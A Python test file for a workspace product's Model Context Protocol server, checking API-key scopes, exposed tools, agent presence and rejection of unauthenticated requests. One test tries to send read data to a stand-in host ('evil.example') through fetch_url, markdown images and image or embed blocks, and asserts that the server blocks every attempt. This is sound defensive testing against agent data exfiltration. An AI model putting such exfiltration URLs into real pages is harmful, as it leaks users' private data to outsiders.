"""The workspace as a server of the Model Context Protocol, through the SDK's own client."""

from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Any

import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp_types import CallToolResult, TextContent

from tests.services.ionflux import IonfluxServer, Person
from tests.services.studio import Studio

BOTH = pytest.mark.parametrize(
    ("mode", "version"), [("auto", "2026-07-28"), ("legacy", "2025-11-25")], ids=["stateless", "handshake"]
)


async def key_of(person: Person, workspace: str, *scopes: str) -> str:
    made = await person.post(f"/v1/workspaces/{workspace}/api-keys", {"name": "Claude", "scopes": scopes})
    return made["key"]


@asynccontextmanager
async def connected(server: IonfluxServer, key: str, mode: str = "auto") -> AsyncGenerator[Client]:
    headers = {"Authorization": f"Bearer {key}"}
    async with (
        httpx2.AsyncClient(headers=headers, timeout=60) as http,
        Client(streamable_http_client(f"{server.url}/mcp", http_client=http), mode=mode) as client,
    ):
        yield client


def text_of(result: CallToolResult) -> str:
    return "".join(part.text for part in result.content if isinstance(part, TextContent))


@BOTH
async def test_an_agent_from_outside_reads_and_writes_as_its_key(
    ionflux: IonfluxServer, mode: str, version: str
):
    ann = await ionflux.person("Ann")
    workspace = await ann.workspace()
    page, channel = await ann.page(workspace), await ann.channel(workspace)
    key = await key_of(ann, workspace, "pages:write", "channels:write")
    async with connected(ionflux, key, mode) as client:
        assert client.protocol_version == version
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        assert {"read_page", "add_text", "post_message", "search_workspace"} <= tools.keys()
        assert not {"send_email", "ask_person", "call_agent", "read_file", "fetch_url"} & tools.keys()
        assert tools["add_text"].input_schema["required"] == ["page_id", "markdown"]
        hints = [tools[name].annotations for name in ("read_page", "add_text")]
        assert [found and found.read_only_hint for found in hints] == [True, False]
        await client.call_tool("add_text", {"page_id": page.id, "markdown": "From *outside*"})
        read = text_of(await client.call_tool("read_page", {"page_id": page.id}))
        assert "From *outside*" in read
        assert "written by others" in read
        posted = await client.call_tool("post_message", {"channel_id": channel.id, "text": "Done"})
        assert posted.structured_content is not None
        messages = text_of(await client.call_tool("read_messages", {"channel_id": channel.id}))
        assert f"[{posted.structured_content['message_id']}, key:" in messages


async def test_a_key_may_no_more_than_its_scopes_and_its_person(ionflux: IonfluxServer):
    ann, bob = await ionflux.person("Ann"), await ionflux.person("Bob")
    workspace, elsewhere = await ann.workspace(), await ann.workspace("Elsewhere")
    page, other = await ann.page(workspace), await ann.page(elsewhere)
    await ann.invite(workspace, bob, "member")
    async with connected(ionflux, await key_of(bob, workspace, "pages:read")) as client:
        names = {tool.name for tool in (await client.list_tools()).tools}
        assert "read_page" in names
        assert "add_text" not in names
        for name, arguments, told in (
            ("add_text", {"page_id": page.id, "markdown": "x"}, "not granted"),
            ("read_page", {"page_id": other.id}, "no such page"),
            ("read_page", {"page_id": "nonsense"}, "at `page_id`"),
            ("fly", {}, "There is no tool 'fly'"),
        ):
            result: Any = await client.call_tool(name, arguments)
            assert result.is_error
            assert told in text_of(result)


async def test_what_an_agent_from_outside_has_shown_asks_no_host(ionflux: IonfluxServer):
    """Whoever has its tools and nothing else cannot be made to carry off by them what it has read."""
    ann = await ionflux.person("Ann")
    workspace = await ann.workspace()
    page = await ann.page(workspace)
    known, away = "https://cats.example/cat.png", "https://evil.example/?it=90000"
    await ann.post(f"/v1/pages/{page.id}/blocks", {"type": "image", "content": {"url": known}})
    async with connected(ionflux, await key_of(ann, workspace, "*:write")) as client:
        assert "fetch_url" not in {tool.name for tool in (await client.list_tools()).tools}
        for name, more in (
            ("fetch_url", {"url": away}),
            ("create_page", {"title": "New", "markdown": f"![x]({away})"}),
            ("add_text", {"page_id": page.id, "markdown": f"![x]({away})"}),
            ("add_block", {"page_id": page.id, "type": "image", "content": {"url": away}}),
            ("add_block", {"page_id": page.id, "type": "embed_panel", "content": {"url": away}}),
            (
                "suggest_changes",
                {"page_id": page.id, "note": "n", "changes": [{"markdown": f"![x]({away})"}]},
            ),
        ):
            result: Any = await client.call_tool(name, more)
            assert result.is_error, name
            assert "no person has named" in text_of(result) or "There is no tool" in text_of(result), name
        for name, more in (
            ("add_text", {"page_id": page.id, "markdown": f"[x]({away}) ![cat]({known})"}),
            ("add_block", {"page_id": page.id, "type": "image", "content": {"url": known}}),
        ):
            assert not (await client.call_tool(name, more)).is_error, name


@pytest.mark.node
async def test_an_agent_from_outside_is_shown_where_it_is_at_work(studio: Studio):
    watcher = await studio.join("hocuspocus")
    key = await key_of(studio.owner, studio.page.workspace_id, "pages:read")
    async with connected(studio.server, key) as client:
        await client.call_tool("read_page", {"page_id": studio.page.id})
        await watcher.present_count(2)
        (shown,) = [state for id_, state in (await watcher.presence()).items() if id_ != watcher.client_id]
        user = shown["user"]
        assert (user["name"], user["kind"], user["id"][:4]) == ("Ann (Claude)", "agent", "key:")
        # It is in one place at a time.
        other = await studio.owner.page(studio.page.workspace_id, "Other")
        await client.call_tool("read_page", {"page_id": other.id})
        await watcher.present_count(1)


async def test_without_a_key_there_is_nothing(ionflux: IonfluxServer):
    ann = await ionflux.person("Ann")
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    async with httpx2.AsyncClient(base_url=ionflux.url, timeout=60) as http:
        for headers in ({}, {"Authorization": "Bearer ifx_x"}, {"Authorization": f"Bearer {ann.token}"}):
            answer = await http.post("/mcp", json=body, headers=headers)
            assert answer.status_code == 401
            assert answer.headers["www-authenticate"].startswith("Bearer")
            assert answer.headers["content-type"] == "application/problem+json"
        answer = await http.get("/mcp")
        assert (answer.status_code, answer.headers["allow"]) == (405, "POST")
        key = await key_of(ann, await ann.workspace(), "pages:read")
        headers = {"Authorization": f"Bearer {key}", "Accept": "application/json, text/event-stream"}
        for content in (b"nonsense", b"{}", b"[" * 10_000):
            answer = await http.post("/mcp", content=content, headers=headers)
            assert 400 <= answer.status_code < 500, answer.text
